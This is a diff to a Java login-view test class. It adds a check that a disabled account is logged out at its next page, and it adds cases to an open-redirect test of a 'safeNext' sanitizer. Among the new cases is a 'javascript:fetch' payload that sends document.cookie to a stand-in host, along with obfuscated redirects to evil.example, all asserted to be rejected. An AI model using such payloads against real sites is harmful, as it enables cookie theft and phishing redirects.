@@ -71,10 +71,26 @@ class LoginViewTest {
     }
 
     @Test
+    void anAccountDisabledAfterLoginIsLoggedOutAtItsNextPage() {
+        openLogin("").login("zhang.san", TestApp.PASSWORD);
+        UI.getCurrent().navigate("");
+        assertEquals(LobbyView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
+        app.accounts.setDisabled("zhang.san", true);
+        UI.getCurrent().navigate("scenarios");
+        assertEquals(LoginView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
+        assertFalse(CurrentUser.get().isPresent());
+    }
+
+    @Test
     void onlyPathsInsideTheAppAreFollowedAfterLogin() {
         assertEquals("", LoginView.safeNext("https://evil.example/"));
         assertEquals("", LoginView.safeNext("//evil.example"));
         assertEquals("", LoginView.safeNext("login?next=x"));
+        assertEquals("", LoginView.safeNext("javascript:fetch('//evil/'+document.cookie)"));
+        assertEquals("", LoginView.safeNext(" //evil.example"));
+        assertEquals("", LoginView.safeNext("\t/\t/evil.example"));
+        assertEquals("", LoginView.safeNext("https:evil.example"));
         assertEquals("review/abc", LoginView.safeNext("review/abc"));
+        assertEquals("control/5f0c-9a", LoginView.safeNext("control/5f0c-9a"));
     }
 }
